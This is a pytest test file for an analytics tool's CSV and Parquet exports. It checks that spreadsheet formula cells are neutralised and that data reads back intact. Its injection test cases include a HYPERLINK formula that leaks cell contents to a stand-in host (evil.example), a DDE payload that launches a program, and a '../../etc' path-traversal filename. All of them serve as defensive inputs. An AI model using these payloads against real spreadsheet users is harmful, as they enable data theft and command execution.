"""Exports read back and compared: CSV through pandas (formula cells neutralised, numbers kept), the metric
history through Parquet readers (pyarrow and DuckDB)."""
from __future__ import annotations

import datetime as dt
import decimal
import io
import os
import tempfile

import duckdb
import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest

from core.analytics.engine import AnalyticsEngine
from core.analytics.exports import HISTORY_COLUMNS, csv_bytes, export_filename, history_parquet, neutralise

UTC = dt.timezone.utc


def read_back(data: bytes, **kw) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False, na_values=[""], **kw)


# ---------------------------------------------------------------- CSV

@pytest.mark.parametrize("cell, written", [
    ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),           # DDE
    ("-2+3", "'-2+3"),                                       # evaluates to 1 in a spreadsheet
    ("-5", "'-5"),                                           # text that looks numeric is still text
    ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),             # a phone number in a caption
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),                                   # tab
    ("\r=1+1", "'\r=1+1"),                                   # carriage return
    ("Launch day 🚀 -50%", "Launch day 🚀 -50%"),              # only the first character matters
    (" =1+1", " =1+1"),                                      # a leading space is not a formula
    ("'quoted", "'quoted"),
])
def test_text_cells_that_would_run_as_formulas_get_a_leading_apostrophe(cell, written):
    assert neutralise(cell) == written
    back = read_back(csv_bytes(pd.DataFrame({"caption": [cell]})), dtype=str)
    assert back["caption"].tolist() == [written]


def test_csv_reads_back_equal_apart_from_neutralised_cells():
    published = pd.to_datetime(["2026-11-01 10:00:00", "2026-11-02 18:30:00", "2026-11-03 07:05:00"], utc=True)
    frame = pd.DataFrame({
        "delivery_id": ["dlv_1", "dlv_2", "dlv_3"],
        "published_at": published,
        "caption": ['=HYPERLINK("http://x.example","x")', "Ça marche, \"vraiment\"\nligne 2 🎉", "-2+3"],
        "views": [1200, 0, -3],                                   # a negative number is a number
        "comments": pd.array([5, None, 7], dtype="Int64"),         # not available stays empty
        "engagement_rate": [0.0523, float("nan"), -0.25],
        "is_ai_generated": [True, False, True],
        "=total": [1, 2, 3],                                       # a header is a cell too
    })
    data = csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")                       # BOM: Excel reads UTF-8
    assert data.split(b"\r\n")[0] == b"\xef\xbb\xbfdelivery_id,published_at,caption,views,comments," \
                                      b"engagement_rate,is_ai_generated,'=total"
    assert b",-3," in data and b",-0.25," in data               # numbers written bare, no apostrophe
    back = read_back(data)
    expected = frame.rename(columns={"=total": "'=total"})
    expected["caption"] = ['\'=HYPERLINK("http://x.example","x")', "Ça marche, \"vraiment\"\nligne 2 🎉", "'-2+3"]
    back["published_at"] = pd.to_datetime(back["published_at"], utc=True)
    back["comments"] = back["comments"].astype("Int64")
    pd.testing.assert_frame_equal(back, expected, check_dtype=False)
    assert back["views"].dtype.kind == "i" and back["engagement_rate"].dtype.kind == "f"


def test_numbers_held_in_text_columns_stay_numbers_and_lists_become_text():
    frame = pd.DataFrame({
        "mixed": pd.Series([decimal.Decimal("-1.50"), -2, np.int64(-4), None, "-oops"], dtype=object),
        "hashtags": pd.Series([["launch", "news"], ("-minus",), np.array(["a"]), [], None], dtype=object),
        "lateness": pd.to_timedelta(["-1 days +02:00:00", "1h", None, "0s", "2h"]),
    })
    lines = csv_bytes(frame).decode("utf-8-sig").split("\r\n")
    assert lines[:6] == [
        "mixed,hashtags,lateness",
        "-1.50,launch news,'-1 days +02:00:00",   # Decimal from DuckDB's SUM: a number; a negative duration: text
        "-2,'-minus,0 days 01:00:00",
        "-4,a,",
        ",,0 days 00:00:00",
        "'-oops,,0 days 02:00:00",
    ]


def test_instants_are_written_with_their_offset():
    # DuckDB hands TIMESTAMPTZ to pandas in zoneinfo's Etc/UTC; a local column keeps its own offset.
    utc = pd.Series(pd.to_datetime(["2026-11-01 10:00:00", None, "2026-11-01 10:00:00.250"], utc=True,
                                   format="ISO8601"))
    frame = pd.DataFrame({"taken_at": utc.dt.tz_convert("Etc/UTC"), "whole": utc.dt.floor("s"),
                          "local": utc.dt.tz_convert("Europe/Berlin"),
                          "micro": utc.dt.tz_convert("Etc/UTC") + pd.Timedelta(microseconds=1)})
    assert csv_bytes(frame).decode("utf-8-sig").split("\r\n") == [
        "taken_at,whole,local,micro",
        "2026-11-01 10:00:00.000+00:00,2026-11-01 10:00:00+00:00,2026-11-01 11:00:00.000+01:00,"
        "2026-11-01 10:00:00.000001+00:00",
        ",,,",
        "2026-11-01 10:00:00.250+00:00,2026-11-01 10:00:00+00:00,2026-11-01 11:00:00.250+01:00,"
        "2026-11-01 10:00:00.250001+00:00",
        "",
    ]


def test_an_index_with_a_name_is_kept_as_a_column():
    frame = pd.DataFrame({"posts": [3, 4]}, index=pd.Index(["x", "bluesky"], name="platform"))
    assert csv_bytes(frame).decode("utf-8-sig") == "platform,posts\r\nx,3\r\nbluesky,4\r\n"


def test_export_filename_is_safe_and_dated():
    assert export_filename("Acmé Marketing / EU", "Post table", "csv", day=dt.date(2026, 12, 3)) == \
        "acme-marketing-eu-post-table-2026-12-03.csv"
    assert export_filename("../../etc", "history", "parquet", day=dt.date(2026, 1, 9)) == \
        "etc-history-2026-01-09.parquet"
    assert export_filename("🚀", "", "csv", day=dt.date(2026, 1, 9)) == "workspace-export-2026-01-09.csv"


# ---------------------------------------------------------------- Parquet history

@pytest.fixture
def engine():
    eng = AnalyticsEngine.in_memory()
    con = eng.cursor()
    con.execute("""
        INSERT INTO workspaces VALUES (1, 'ws_a', 'Acme', 'UTC'), (2, 'ws_b', 'Other', 'UTC');
        INSERT INTO accounts VALUES (1, 'acc_a1', 1, 'ws_a', 'x', '@acme', 'Acme', 'active'),
                                    (2, 'acc_b1', 2, 'ws_b', 'x', '@other', 'Other', 'active');
        INSERT INTO deliveries (dkey, delivery_id, post_id, akey, wkey, account_id, workspace_id, platform, state,
                                published_at) VALUES
            (1, 'dlv_a1', 'post_a', 1, 1, 'acc_a1', 'ws_a', 'x', 'published', '2026-11-01 10:00:00+00'),
            (2, 'dlv_a2', 'post_a2', 1, 1, 'acc_a1', 'ws_a', 'x', 'published', '2026-11-02 10:00:00+00'),
            (3, 'dlv_b', 'post_b', 2, 2, 'acc_b1', 'ws_b', 'x', 'published', '2026-11-01 10:00:00+00');
        INSERT INTO post_snapshots VALUES
            (1, 1, 1, 1, '2026-11-01 11:00:00+00', 100, 80, 5, NULL, 1, 0, 2, NULL, false),
            (2, 1, 1, 1, '2026-11-01 12:00:00+00', 150, 120, 9, 1, 1, 0, 3, NULL, false),
            (3, 2, 1, 1, '2026-11-02 11:00:00+00', 40, NULL, 2, 0, 0, 0, 0, 30, true),
            (4, 3, 2, 2, '2026-11-01 11:00:00+00', 999, 999, 999, 999, 999, 999, 999, 999, false);
        INSERT INTO account_snapshots VALUES (1, 1, 1, '2026-11-01 00:00:00+00', 1000, false),
            (2, 1, 1, '2026-11-02 00:00:00+00', 1012, false), (3, 2, 2, '2026-11-01 00:00:00+00', 7, false);
    """)
    con.close()
    yield eng
    eng.close()


def ts(text: str) -> pd.Timestamp:
    return pd.Timestamp(text, tz="UTC")


def test_history_parquet_holds_every_snapshot_of_the_workspace_and_nothing_else(engine, tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))     # to see that the temporary file is removed
    con = engine.cursor()
    data = history_parquet(con, "ws_a")
    con.close()
    assert os.listdir(tmp_path) == []
    table = pq.read_table(io.BytesIO(data))
    assert tuple(table.column_names) == HISTORY_COLUMNS
    frame = table.to_pandas().sort_values(["kind", "taken_at"], ascending=[False, True], ignore_index=True)
    rows = frame.astype(object).where(lambda f: f.notna(), None).to_dict("records")
    post = dict.fromkeys(HISTORY_COLUMNS)
    assert rows == [
        {**post, "kind": "post", "taken_at": ts("2026-11-01 11:00"), "platform": "x", "account_id": "acc_a1",
         "handle": "@acme", "post_id": "post_a", "delivery_id": "dlv_a1", "published_at": ts("2026-11-01 10:00"),
         "views": 100, "reach": 80, "likes": 5, "comments": None, "shares": 1, "saves": 0, "clicks": 2,
         "video_views": None, "is_demo": False},
        {**post, "kind": "post", "taken_at": ts("2026-11-01 12:00"), "platform": "x", "account_id": "acc_a1",
         "handle": "@acme", "post_id": "post_a", "delivery_id": "dlv_a1", "published_at": ts("2026-11-01 10:00"),
         "views": 150, "reach": 120, "likes": 9, "comments": 1, "shares": 1, "saves": 0, "clicks": 3,
         "video_views": None, "is_demo": False},
        {**post, "kind": "post", "taken_at": ts("2026-11-02 11:00"), "platform": "x", "account_id": "acc_a1",
         "handle": "@acme", "post_id": "post_a2", "delivery_id": "dlv_a2", "published_at": ts("2026-11-02 10:00"),
         "views": 40, "reach": None, "likes": 2, "comments": 0, "shares": 0, "saves": 0, "clicks": 0,
         "video_views": 30, "is_demo": True},
        {**post, "kind": "followers", "taken_at": ts("2026-11-01 00:00"), "platform": "x", "account_id": "acc_a1",
         "handle": "@acme", "followers": 1000, "is_demo": False},
        {**post, "kind": "followers", "taken_at": ts("2026-11-02 00:00"), "platform": "x", "account_id": "acc_a1",
         "handle": "@acme", "followers": 1012, "is_demo": False},
    ]
    # DuckDB reads the same file back to the same totals as the engine holds for this workspace.
    path = tmp_path / "history.parquet"
    path.write_bytes(data)
    reader = duckdb.connect()
    assert reader.execute("SELECT kind, count(*), sum(views), sum(followers) FROM read_parquet(?) GROUP BY kind "
                          "ORDER BY kind", [str(path)]).fetchall() == [("followers", 2, None, 2012),
                                                                       ("post", 3, 290, None)]
    reader.close()


def test_history_of_a_workspace_without_data_is_an_empty_file_with_its_columns(engine):
    con = engine.cursor()
    table = pq.read_table(io.BytesIO(history_parquet(con, "ws_unknown")))
    con.close()
    assert table.num_rows == 0 and tuple(table.column_names) == HISTORY_COLUMNS
